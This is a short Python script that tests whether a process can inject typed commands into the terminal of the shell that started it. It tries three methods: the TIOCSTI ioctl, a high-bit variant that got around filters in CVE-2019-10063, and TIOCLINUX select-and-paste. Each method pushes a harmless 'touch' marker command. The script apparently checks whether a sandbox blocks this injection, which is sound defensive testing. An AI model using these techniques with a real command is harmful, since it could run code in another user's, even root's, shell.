#!/usr/bin/python3
"""tiocsti.py MARKER: pushes "touch MARKER-TECH" and a newline into the
input of the terminal on standard input, one technique at a time, so that
whatever reads that terminal next (the root shell that started the
session) would run it. Prints "TECH: injected" or "TECH: <error>":

  plain      ioctl(0, TIOCSTI, c) for each byte
  high       the same with the high 32 bits of the request set (the
             kernel looks at the low 32 only; CVE-2019-10063 went round a
             filter that compared all 64)
  tioclinux  TIOCLINUX TIOCL_SETSEL (select the top left of the console)
             then TIOCL_PASTESEL (paste it as typed input): what is pasted
             is on the screen, not chosen, so it has no marker; the result
             is what the kernel (or the filter) said
"""
import ctypes, os, struct, sys

libc = ctypes.CDLL(None, use_errno=True)
SYS_ioctl = 16  # x86_64
TIOCSTI, TIOCLINUX = 0x5412, 0x541C


def push(req, text):
    for b in text.encode():
        c = ctypes.c_char(b)
        if libc.syscall(SYS_ioctl, 0, ctypes.c_ulong(req), ctypes.byref(c)) != 0:
            return os.strerror(ctypes.get_errno())
    return "injected"


def tioclinux():
    # struct { char subcode; short xs, ys, xe, ye, sel_mode; }, packed
    # after the subcode: TIOCL_SETSEL = 2, mode 0 (characters)
    sel = ctypes.create_string_buffer(struct.pack("=bhhhhh", 2, 1, 1, 20, 1, 0))
    if libc.syscall(SYS_ioctl, 0, ctypes.c_ulong(TIOCLINUX), sel) != 0:
        return "setsel " + os.strerror(ctypes.get_errno())
    paste = ctypes.create_string_buffer(bytes([3]))  # TIOCL_PASTESEL
    if libc.syscall(SYS_ioctl, 0, ctypes.c_ulong(TIOCLINUX), paste) != 0:
        return "pastesel " + os.strerror(ctypes.get_errno())
    return "injected"


marker = sys.argv[1]
print("plain:", push(TIOCSTI, "touch %s-plain\n" % marker), flush=True)
print("high:", push(TIOCSTI | (1 << 32), "touch %s-high\n" % marker), flush=True)
print("tioclinux:", tioclinux(), flush=True)
